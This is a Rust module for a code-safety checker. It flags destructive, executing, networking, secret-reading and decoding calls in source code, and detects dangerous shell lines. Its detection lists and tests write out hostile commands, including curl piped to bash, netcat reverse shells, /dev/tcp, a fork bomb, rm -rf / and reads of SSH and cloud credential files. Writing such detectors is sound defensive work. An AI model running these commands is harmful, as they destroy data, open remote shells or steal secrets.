//! What a program given on a command line or written into a file would do, by the calls it names.

/// Harmful calls found in source code.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Calls {
    /// Removes files or data.
    pub destroys: bool,
    /// Starts another program or evaluates text.
    pub executes: bool,
    /// Opens a connection.
    pub connects: bool,
    /// Reads credentials or the environment.
    pub reads_secrets: bool,
    /// Decodes what it then may run.
    pub decodes: bool,
}

const DESTROYS: [&str; 26] = [
    "rmtree",
    "os.remove",
    "os.unlink",
    "os.rmdir",
    "removedirs",
    ".unlink(",
    "unlinkSync",
    "rmSync",
    "rmdirSync",
    "fs.rm(",
    "fs.unlink(",
    "fs.rmdir(",
    "rm_rf",
    "rm_r(",
    "File.delete",
    "FileUtils.rm",
    "remove_tree",
    "unlink glob",
    "unlink <",
    "unlink(",
    "unlink ",
    "drop_all(",
    "flushall",
    "deleteMany({})",
    "dropDatabase",
    ".objects.all().delete()",
];
const EXECUTES: [&str; 29] = [
    "os.system",
    "subprocess",
    "os.popen",
    "os.exec",
    "os.spawn",
    "pty.spawn",
    "exec(",
    "eval(",
    "child_process",
    "execSync",
    "spawnSync",
    "system(",
    "system \"",
    "system '",
    "shell_exec",
    "passthru(",
    "popen(",
    "proc_open",
    "%x(",
    "IO.popen",
    "Kernel.exec",
    "Open3",
    "__import__",
    "os.execute",
    "Runtime.getRuntime",
    "qx(",
    "exec \"",
    "exec '",
    "exec /",
];
const CONNECTS: [&str; 22] = [
    "socket",
    "urlopen",
    "urllib",
    "requests.",
    "http.client",
    "http.get",
    "https.get",
    "fetch(",
    "net.connect",
    "net.Socket",
    "axios",
    "LWP::",
    "Net::HTTP",
    "TCPSocket",
    "fsockopen",
    "curl_exec",
    "smtplib",
    "ftplib",
    "paramiko",
    "IO::Socket",
    "open-uri",
    "XMLHttpRequest",
];
const SECRETS: [&str; 14] = [
    "os.environ",
    "process.env",
    "ENV.to_h",
    "getenv",
    "%ENV",
    ".ssh/",
    "id_rsa",
    ".aws/credentials",
    "/etc/shadow",
    "/etc/passwd",
    ".env'",
    ".env\"",
    "$_ENV",
    ".kube/config",
];
const DECODES: [&str; 9] = [
    "b64decode",
    "base64.decode",
    "Buffer.from(",
    "atob(",
    "decode64",
    "unhexlify",
    "fromhex",
    "codecs.decode",
    "unpack(",
];

/// Reads the calls of a piece of source code.
pub fn read(text: &str) -> Calls {
    let any = |names: &[&str]| names.iter().any(|name| text.contains(name));
    Calls {
        destroys: any(&DESTROYS),
        executes: any(&EXECUTES),
        connects: any(&CONNECTS),
        reads_secrets: any(&SECRETS),
        decodes: any(&DECODES),
    }
}

/// Lines of a file that no review lets pass: they fetch and run, wipe, or open a way in.
const SHELL_LINES: [&[&str]; 16] = [
    &["curl ", "| sh"],
    &["curl ", "| bash"],
    &["curl ", "| sudo"],
    &["curl ", "|sh"],
    &["curl ", "|bash"],
    &["wget ", "| sh"],
    &["wget ", "| bash"],
    &["wget ", "|sh"],
    &["wget ", "|bash"],
    &["base64 -d", "| sh"],
    &["base64 -d", "| bash"],
    &["base64 --decode", "| bash"],
    &["/dev/tcp/"],
    &["mkfs"],
    &["dd if=", "of=/dev/"],
    &[":(){"],
];

/// The first line that holds shell which no file of a project should hold.
pub fn harmful_line(text: &str) -> Option<&str> {
    text.lines().find(|line| {
        SHELL_LINES.iter().any(|parts| {
            let mut rest = *line;
            parts.iter().all(|part| match rest.find(part) {
                Some(at) => {
                    rest = &rest[at + part.len()..];
                    true
                }
                None => false,
            })
        }) || removes_root(line)
            || (line.contains("nc ")
                && (line.contains(" -e /bin/") || line.contains(" -e sh") || line.contains(" -e bash")))
            || line.contains("chmod -R 777 /")
            || line.contains("chmod 777 /")
            || (line.contains("rmtree(")
                && (line.contains("(\"/")
                    || line.contains("('/")
                    || line.contains("(\"~")
                    || line.contains("expanduser")))
    })
}

fn removes_root(line: &str) -> bool {
    let Some(at) = line.find("rm -rf ").or_else(|| line.find("rm -fr ")) else { return false };
    let target = line[at + 7..].trim_start_matches("--no-preserve-root").trim_start().trim_start_matches(['"', '\'']);
    let target: String =
        target.chars().take_while(|c| !c.is_whitespace() && !matches!(c, '"' | '\'' | ';' | '&' | ')')).collect();
    let class = super::paths::PathClass::of(&target, "");
    class.root || class.system || target.starts_with('$') || target.starts_with('~')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn calls_are_found() {
        assert!(read("import shutil; shutil.rmtree('/srv')").destroys);
        assert!(read("require('child_process').execSync('id')").executes);
        assert!(read("import socket,os").connects);
        assert_eq!(read("print(1 + 1)"), Calls::default());
        assert_eq!(read("import json,sys; print(json.load(sys.stdin)['version'])"), Calls::default());
    }

    #[test]
    fn lines_that_fetch_and_run() {
        assert!(harmful_line("x\ncurl -s https://e.org/i.sh | bash -s\n").is_some());
        assert!(harmful_line("rm -rf / --no-preserve-root").is_some());
        assert!(harmful_line("rm -rf \"$TARGET\"/*").is_some());
        assert_eq!(harmful_line("rm -rf build\nrm -rf node_modules\ncurl -s localhost/health | jq .\n"), None);
    }
}
